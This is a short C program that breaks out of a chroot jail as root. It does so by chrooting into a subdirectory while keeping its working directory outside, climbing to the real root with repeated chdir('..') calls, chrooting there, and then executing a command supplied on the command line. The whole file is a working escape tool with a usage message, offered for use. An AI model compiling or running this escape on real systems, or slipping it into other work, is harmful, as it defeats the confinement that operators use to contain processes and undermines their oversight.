// Gets out of a chroot, as root: `..` ends at the root directory, and only there.

#include <err.h>
#include <errno.h>
#include <sys/stat.h>
#include <unistd.h>

static void must(int result, const char *what) {
    if (result == -1) err(1, "%s", what);
}

int main(int argc, char **argv) {
    if (argc < 2) errx(1, "usage: escape COMMAND [ARG...]");
    if (mkdir("way-out", 0700) == -1 && errno != EEXIST) err(1, "mkdir way-out");
    // The root directory moves below us; the working directory stays, and is outside.
    must(chroot("way-out"), "chroot to way-out");
    // The real root is its own parent, so it does not matter how often we go up.
    for (int i = 0; i < 1000; i++) must(chdir(".."), "chdir to ..");
    must(chroot("."), "chroot to the real root");
    execvp(argv[1], argv + 1);
    err(127, "%s", argv[1]);
}
